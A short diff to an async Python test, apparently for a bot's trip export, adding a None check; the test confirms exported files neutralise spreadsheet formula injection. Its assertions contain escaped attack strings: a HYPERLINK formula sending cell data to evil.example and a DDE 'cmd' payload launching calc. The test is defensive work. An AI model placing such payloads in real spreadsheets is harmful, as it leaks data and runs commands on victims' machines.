@@ -477,6 +477,7 @@ async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
     trips = next(
         m for m in bot.operators.messages() if m.document and "trips" in m.document.filename
     )
+    assert trips.document is not None
     content = trips.document.content.decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in content
     assert "'=cmd|' /C calc'!A0" in content
